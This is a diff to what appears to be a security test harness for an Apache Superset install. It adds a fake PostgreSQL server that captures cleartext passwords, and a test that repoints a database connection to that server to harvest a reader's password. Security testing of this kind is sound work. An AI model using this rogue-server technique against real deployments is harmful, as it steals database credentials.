@@ -3,12 +3,69 @@ import json
 import os
 import re
 import secrets
+import socket
+import struct
 import subprocess
+import threading
 
 from instance import Session
 from questions import FREE, MARK, column, exact, xml
 
 NAME = "vigie-essai-attaque"
+
+
+class Trap(threading.Thread):
+    """A server that says it is PostgreSQL, asks for passwords in the clear, and answers everything with nothing."""
+
+    def __init__(self):
+        super().__init__(daemon=True)
+        self.listening, self.heard = socket.create_server(("127.0.0.1", 0)), set()
+        self.port = self.listening.getsockname()[1]
+
+    def run(self):
+        while True:
+            try:
+                connection, _ = self.listening.accept()
+            except OSError:
+                return
+            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()
+
+    def serve(self, connection):
+        message = lambda kind, content: kind + struct.pack("!i", len(content) + 4) + content
+        text = lambda value: value.encode() + b"\0"
+        exactly = connection.makefile("rb").read
+        try:
+            while True:
+                size, code = struct.unpack("!ii", exactly(8))
+                rest = exactly(size - 8)
+                if code in (80877103, 80877104):
+                    connection.sendall(b"N")
+                    continue
+                break
+            connection.sendall(message(b"R", struct.pack("!i", 3)))
+            exactly(1)
+            self.heard.add((rest.split(b"\0")[1].decode(), exactly(struct.unpack("!i", exactly(4))[0] - 4).rstrip(b"\0").decode()))
+            ready, state = lambda: message(b"Z", state), b"I"
+            connection.sendall(message(b"R", struct.pack("!i", 0)) + b"".join(message(b"S", text(name) + text(value)) for name, value in (
+                ("server_version", "18.0"), ("client_encoding", "UTF8"), ("standard_conforming_strings", "on"), ("integer_datetimes", "on"), ("DateStyle", "ISO, MDY"), ("TimeZone", "UTC")))
+                + message(b"K", struct.pack("!ii", 1, 1)) + ready())
+            while True:
+                kind = exactly(1)
+                if not kind or kind == b"X":
+                    return
+                sql = exactly(struct.unpack("!i", exactly(4))[0] - 4).rstrip(b"\0").decode().strip().lower()
+                if re.match("begin|start|rollback|commit|set|discard|reset", sql):
+                    state = b"T" if re.match("begin|start", sql) else b"I" if re.match("rollback|commit", sql) else state
+                    connection.sendall(message(b"C", text(sql.split()[0].upper())) + ready())
+                    continue
+                value = next((answer for word, answer in (("version()", "PostgreSQL 18.0"), ("standard_conforming", "on"), ("current_schema", "public"), ("isolation", "read committed"))
+                              if word in sql), None)
+                connection.sendall(message(b"T", struct.pack("!h", 1) + text("x") + struct.pack("!ihihih", 0, 0, 25, -1, -1, 0)) + (
+                    message(b"D", struct.pack("!hi", 1, len(value)) + value.encode()) if value else b"") + message(b"C", text("SELECT")) + ready())
+        except (OSError, struct.error, IndexError):
+            pass
+        finally:
+            connection.close()
 
 
 def inside(instance, code, **words):
@@ -51,6 +108,7 @@ for one in db.session.query(Slice).filter_by(slice_name="m4rk"):
 for base in db.session.query(Database).filter_by(database_name="m4rk"):
     db.session.delete(base)
 base = db.session.query(Database).filter_by(database_name="Vigie").one()
+base.sqlalchemy_uri = os.environ["M_URI"]
 base.expose_in_sqllab, base.allow_dml, base.extra = os.environ["M_EXPOSED"] == "1", os.environ["M_DML"] == "1", os.environ["M_EXTRA"]
 for pair in filter(None, os.environ["M_HASHES"].split("|")):
     name, kept = pair.split("=", 1)
@@ -76,10 +134,10 @@ for name in people_made:
 
 
 def remember(instance):
-    exposed, dml, extra = instance.metadata.execute("SELECT expose_in_sqllab, allow_dml, extra FROM dbs WHERE database_name = 'Vigie'").fetchone()
+    exposed, dml, extra, uri = instance.metadata.execute("SELECT expose_in_sqllab, allow_dml, extra, sqlalchemy_uri FROM dbs WHERE database_name = 'Vigie'").fetchone()
     numbers = dict(instance.metadata.execute("SELECT username, id FROM ab_user"))
     hashes = dict(instance.metadata.execute("SELECT username, password FROM ab_user"))
-    instance.kept = {"M_EXPOSED": str(int(exposed)), "M_DML": str(int(dml)), "M_EXTRA": extra or "{}",
+    instance.kept = {"M_EXPOSED": str(int(exposed)), "M_DML": str(int(dml)), "M_EXTRA": extra or "{}", "M_URI": uri,
                      "M_TWINS": "|".join(one.name.upper() + "|" + one.name + " |" + one.name + "-m4rk" for one in instance.readers),
                      "M_NUMBERS": "|".join(f"{one.name}={numbers[one.name]}" for one in instance.readers),
                      "M_HASHES": "|".join(f"{one.name}={hashes[one.name]}" for one in instance.readers)}
@@ -172,6 +230,17 @@ def attack(instance, corpus, report):
             answer = session.call("GET", where)
             known = [one.secret["password"] for one in instance.readers if one.secret.get("password")]
             report(who, "Superset", "the secret of the connection, " + where.split("?")[0], any(word in answer.text or word.encode() in answer.content for word in known) and "told", answer.status)
+        # The connection is led elsewhere, and readers' secrets follow it there.
+        trap = Trap()
+        trap.start()
+        led = session.call("PUT", f"/api/v1/database/{number}", timeout=30, json={"sqlalchemy_uri": re.sub(r"@[^/]*/", f"@127.0.0.1:{trap.port}/", uri)})
+        dac.session.ask({**good, "force": True}, url, timeout=20)
+        report(who, "Superset", "the connection led to a server of one's own", any(word == dac.secret.get("password") for _, word in trap.heard) and "the reader's password came", led.status)
+        session.call("PUT", f"/api/v1/database/{number}", timeout=30, json={"sqlalchemy_uri": uri})
+        trap.listening.close()
+        dac_asked = dac.session.ask(good, url, timeout=20)
+        answer = session.call("GET", f"/api/v1/chart/data/{next((one.get('cache_key') for one in dac_asked.results()), None)}")
+        report(who, "Superset", "a reader's answer by its key", told(answer), answer.status)
         # --- people ----------------------------------------------------------------------------------------------------------------------
         roles = [number for (number,) in instance.metadata.execute("SELECT r.role_id FROM ab_user_role r JOIN ab_user u ON u.id = r.user_id WHERE u.username = ?", (dac.name,))]
         user = instance.metadata.execute("SELECT id FROM ab_user WHERE username = ?", (dac.name,)).fetchone()[0]
@@ -242,7 +311,3 @@ def machine(instance, report):
             mode = path.stat().st_mode & 0o077
             closed_above = any(parent.stat().st_mode & 0o011 == 0 for parent in path.parents if instance.home in (parent, *parent.parents))
             report("machine", "files", name, mode and not closed_above and name != "superset/superset_config.py" and f"{path.stat().st_mode & 0o777:04o}")
-
-
-def words(text):
-    return re.sub(r"\s+", " ", text)
